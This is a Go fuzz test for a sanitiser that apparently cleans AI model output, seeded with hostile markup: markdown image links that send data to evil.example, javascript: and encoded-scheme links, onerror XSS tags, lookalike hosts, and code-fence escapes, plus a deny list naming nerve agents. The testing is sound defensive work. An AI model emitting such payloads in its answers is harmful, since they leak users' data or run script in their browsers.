package detect

import (
	"strings"
	"sync"
	"testing"
	"unicode/utf8"
)

// markupSeeds are the shapes the sanitiser reads and their hostile forms:
// nesting, unterminated constructs, encodings of schemes and hosts.
var markupSeeds = []string{
	"![ok](https://evil.example/p.png?d=secret)",
	"[[[[[[a](b)](c)](d)](https://evil.example/)]",
	"![x](<https://evil.example/a b.png> 'title')",
	"![x](https://evil.example/p.png",
	"[a](javascript:alert(1)) [b](&#x6A;avascript:x) [c](JaVaScRiPt:x)",
	"[a](%6A%61vascript:x) [b](https://%65vil.example/)",
	"![x](https://xn--80ak6aa92e.com/) ![y](https://аррӏе.com/)",
	"![x](//evil.example/) ![y](\\\\evil.example/) ![z](/\\evil.example/)",
	"[x](https://docs.example.com@evil.example/) [y](https://user:pw@evil.example/)",
	"<img src=x onerror=alert(1)> <a href='//e.example'>t</a> <script>",
	"<iframe src=\"https://e.example\"",
	"<svg><script>x</script></svg> </script> <style>a{background:url(//e)}",
	"[r]: https://evil.example/p.png \"t\"\n   [s]:<https://e.example>",
	"<https://evil.example/x> <mailto:a@b.c> <a@b.c>",
	"see https://docs.example.com/?u=jane.doe@gmail.com&k=%41KIA",
	"\\[not](https://evil.example/) [esc\\](x](https://evil.example/)",
	"\xff](\xfe<img\x00src=\xc3>",
	// Code: fences, spans, and answers that try to escape them.
	"```html\n<img src=\"https://example.com/cat.png\">\n```\n`[x](https://example.com/)`",
	"```\n```\n![ok](https://evil.example/p.png?d=x)\n```",
	"  ```\nx\n```\n![ok](https://evil.example/p.png)\n```",
	"~~~~\n    ~~~~\n~~~\n![ok](https://evil.example/p.png)",
	"`` a\nb ` `` ![ok](https://evil.example/p.png) `",
	"<a title='`'>t</a> ![ok](https://evil.example/p.png) ` | ` | `",
	"- ```\n<div>\n```\n\\` ```a`b\n",
}

var fuzzMarkupScanner = sync.OnceValue(func() *Scanner {
	cr, err := NewContentRules([]ContentCategory{
		{Name: "c", Terms: []string{"nerve agent", "禁止", "sarin"}, Directions: []Direction{DirectionResponse}, Action: ContentDeny},
	}, OutputSpec{Sanitize: true, AllowedLinkHosts: []string{"docs.example.com", "*.ok.example"}})
	if err != nil {
		panic(err)
	}
	sc, err := New(Config{DisableInjection: true, Content: cr, Direction: DirectionResponse})
	if err != nil {
		panic(err)
	}
	return sc
})

// FuzzMarkup checks the sanitiser and the content matcher on any input:
// no panic, findings inside the text on character boundaries, the same
// findings on a second scan, and no external image left whole after
// sanitising.
func FuzzMarkup(f *testing.F) {
	for _, s := range markupSeeds {
		f.Add(s)
	}
	addSeeds(f)
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4096 {
			return // keep each iteration cheap
		}
		sc := fuzzMarkupScanner()
		res := sc.Scan(text)
		for _, fd := range res.Findings {
			if fd.ByteStart < 0 || fd.ByteEnd > len(text) || fd.ByteStart >= fd.ByteEnd {
				t.Fatalf("finding %+v outside text of %d bytes", fd, len(text))
			}
			if fd.Detector == DetectorContent && (!utf8.RuneStart(text[fd.ByteStart]) || fd.ByteEnd < len(text) && !utf8.RuneStart(text[fd.ByteEnd])) {
				t.Fatalf("content finding %+v splits a character", fd)
			}
		}
		again := sc.Scan(text)
		if len(again.Findings) != len(res.Findings) {
			t.Fatalf("second scan found %d findings, first %d", len(again.Findings), len(res.Findings))
		}
		checkCodeState(t, text)
		out := neutralise(text, res.Findings)
		if strings.Contains(out, "](https://evil.example") && strings.Contains(text, "](https://evil.example") && codeRanges(text, CodeState{}, true) == nil {
			// (In code, a renderer shows the image as text.)
			// Whatever else happened, the destination was removed.
			t.Fatalf("sanitised %q still links to evil.example: %q", text, out)
		}
	})
}

// checkCodeState: the code state machine never panics, its regions lie in
// the text in order, and the state carried over any cut where a stream
// may cut gives the rest of the text the regions one pass gives it (so a
// stream's windows agree with the buffered answer).
func checkCodeState(t *testing.T, text string) {
	whole := codeRanges(text, CodeState{}, true)
	last := 0
	for _, r := range whole {
		if r.s < last || r.e > len(text) || r.s >= r.e {
			t.Fatalf("code ranges %v out of order or outside %d bytes", whole, len(text))
		}
		last = r.e
	}
	for _, sp := range InlineSpans(text, CodeState{}, nil) {
		if sp[0] < 0 || sp[1] > len(text) || sp[0] >= sp[1] {
			t.Fatalf("inline span %v outside %d bytes", sp, len(text))
		}
	}
	for _, cut := range []int{len(text) / 3, len(text) / 2, 2 * len(text) / 3} {
		var st CodeState
		st.Advance([]byte(text[:cut]))
		if st.InSpan() {
			continue // a stream does not cut here
		}
		var want []codeSpan
		for _, r := range whole {
			if r.e > cut {
				want = append(want, codeSpan{max(r.s, cut) - cut, r.e - cut, r.inline})
			}
		}
		got := codeRanges(text[cut:], st, true)
		if len(got) != len(want) {
			t.Fatalf("cut at %d: ranges %v, want %v", cut, got, want)
		}
		for i := range got {
			if got[i] != want[i] {
				t.Fatalf("cut at %d: ranges %v, want %v", cut, got, want)
			}
		}
	}
}
